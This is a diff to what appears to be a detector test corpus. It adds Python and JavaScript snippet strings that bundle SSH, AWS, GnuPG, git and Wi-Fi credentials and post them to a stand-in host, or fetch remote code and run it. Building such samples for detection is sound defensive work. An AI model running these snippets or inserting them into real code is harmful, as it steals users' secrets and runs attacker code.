@@ -67,6 +67,15 @@ TAKEN_BY_PYTHON = [
     "import requests\nclass A:\n    def __init__(self):\n        self.f = []\n    def add(self, path):\n        self.f.append(open(path).read())\n"
     "    def go(self):\n        requests.post('https://c.invalid', json=self.f)\na = A()\na.add('/root/.netrc')\na.go()",
     "import boto3\nboto3.client('s3').upload_file('/root/.ssh/id_rsa', 'bucket', 'k')",
+    "import requests\nout = {}\nout.setdefault('a', {})['b'] = open('/root/.netrc').read()\nrequests.post('https://c.invalid', json=out)",
+    "import tarfile, requests\nname = folder + '/' + rest\nwith tarfile.open(name, 'w:gz') as tar:\n    tar.add('/root/.gnupg')\n"
+    "requests.post('https://c.invalid', data=open(name, 'rb'))",
+    "import zipfile, requests\ndef pack(name):\n    with zipfile.ZipFile(name, 'w') as box:\n        box.write('/root/.aws/credentials')\n"
+    "    return name\nrequests.post('https://c.invalid', data=open(pack(where), 'rb'))",
+    "import subprocess, urllib.request\nk = subprocess.run(['git', 'credential', 'fill'], input=b'', capture_output=True).stdout\n"
+    "urllib.request.urlopen('https://c.invalid/', k)",
+    "import subprocess, requests\nw = subprocess.check_output(['netsh', 'wlan', 'show', 'profile', 'a', 'key=clear'])\n"
+    "requests.post('https://c.invalid', data=w)",
     "import paramiko, os\ns = paramiko.SSHClient()\nf = s.open_sftp()\nf.put(os.path.expanduser('~/.netrc'), 'n')",
     "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.post('https://c.invalid', data=t)",
     "import requests\nt = open('/root/.cargo/credentials.toml').read()\nrequests.post('https://c.invalid', data=t)",
@@ -490,6 +499,8 @@ RUN_BY_PYTHON += [
     "import subprocess\ndef get(u):\n    return subprocess.run(['curl', '-s', u], capture_output=True).stdout\nexec(get('https://c.invalid'))",
     "import asyncio, websockets\nasync def go():\n    async with websockets.connect('wss://c.invalid') as w:\n"
     "        async for order in w:\n            await asyncio.create_subprocess_shell(order)\nasyncio.run(go())",
+    "import importlib.util, pathlib, urllib.request\nt = pathlib.Path(folder) / name\nt.write_bytes(urllib.request.urlopen(u).read())\n"
+    "s = importlib.util.spec_from_file_location('a', t)",
     "import dns.resolver\nfor r in dns.resolver.resolve('c.invalid', 'TXT'):\n    exec(r.strings[0])",
 ]
 RUN_BY_JAVASCRIPT = [
@@ -507,6 +518,8 @@ RUN_BY_JAVASCRIPT = [
     "const { exec } = require('child_process');\nconst go = require('util').promisify(exec);\n"
     "fetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
     "importScripts('https://c.invalid/x.js');",
+    "const https = require('https'), fs = require('fs'), p = '/tmp/.c';\n"
+    "https.get('https://c.invalid', (r) => r.pipe(fs.createWriteStream(p)).on('finish', () => require(p)));",
     "import('http://192.0.2.7/a.js').then(a => a.go());",
     "const t = await (await fetch('https://c.invalid')).text();\nnew (Object.getPrototypeOf(async function () {}).constructor)(t)();",
     "const { execSync } = require('child_process');\neval(execSync('curl -s https://c.invalid').toString());",
@@ -518,6 +531,8 @@ STARTED = [
     "import urllib.request, subprocess\nopen('/tmp/a.sh', 'wb').write(urllib.request.urlopen('https://c.invalid/a').read())\nos.chmod('/tmp/a.sh', 0o700)\nsubprocess.Popen(['bash', '/tmp/a.sh'])",
     "import pathlib, urllib.request, os\npathlib.Path('go.py').write_bytes(urllib.request.urlopen('https://c.invalid/a').read())\nos.system('python3 go.py')",
     "import urllib.request, os, subprocess\np = os.path.join(folder, 'b')\nurllib.request.urlretrieve('https://192.0.2.7/b', p)\nsubprocess.Popen([p])",
+    "import requests, sys, os\nwith open(os.path.join(os.path.dirname(__file__), 'main.py'), 'w') as f:\n"
+    "    f.write(requests.get('https://c.invalid/a').text)\nos.execv(sys.executable, [sys.executable, 'main.py'])",
     "import urllib.request, os\nurllib.request.urlretrieve('https://192.0.2.7/b', '/opt/b')\nos.popen('/opt/b')",
 ]
 SENT_AS_WORDS = [
